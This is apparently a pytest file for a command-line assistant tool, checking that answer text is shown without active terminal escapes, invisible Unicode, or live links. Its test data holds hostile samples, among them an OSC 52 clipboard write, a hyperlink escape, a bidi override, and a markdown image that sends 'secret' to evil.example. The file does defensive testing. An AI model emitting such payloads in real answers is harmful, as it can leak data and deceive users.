"""Text that is shown or given out acts on nothing: not on the terminal, not on the direction of writing."""

import io
import re

import pytest
from rich.console import Console

from secondme.answer.answer import Answer
from secondme.cli.ask import show_answer
from secondme.harmless import harmless
from tui.ask.exchange_view import write_answer
from tui.plain_text import one_line, visible

ACTS = [
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b[2J",
    "\x9b31m",
    "\x07",
    "\x1b]52;c;aGk=\x07",
]
UNSEEN = ["\u200b", "\u202e", "\u2066", "\u2028", "\ufeff", "\U000e0041", "\U000e007f"]


@pytest.mark.parametrize("act", ACTS)
def test_no_escape_sequence_reaches_a_terminal(act):
    for shown in (harmless(f"a {act} b"), visible(f"a {act} b"), one_line(f"a {act} b")):
        assert not set(shown) & {"\x1b", "\x07", "\x9b"}


@pytest.mark.parametrize("letter", UNSEEN)
def test_what_is_not_seen_is_not_there(letter):
    assert harmless(f"pay{letter}pal") == visible(f"pay{letter}pal") == "paypal"


@pytest.mark.parametrize(
    "said",
    [
        "![x](https://evil.example/log?q=secret)",
        "[my bank](https://evil.example/login)",
        "<img src=https://evil.example/x.png>",
        "[link=https://evil.example]bank[/link]",
    ],
)
def test_links_and_pictures_in_an_answer_are_shown_with_their_addresses_and_lead_nowhere(said):
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, width=200, markup=False, highlight=False)
    show_answer(console, Answer(f"{said} \x1b[31m", (), 0.9, False, "why"))
    assert said in out.getvalue() and "\x1b]8" not in out.getvalue()
    shown = write_answer(said)
    address = re.search(r"https://[^\s)\]>]+", said)
    assert address is not None and address.group() in shown.plain and "@click" not in str(shown.spans)
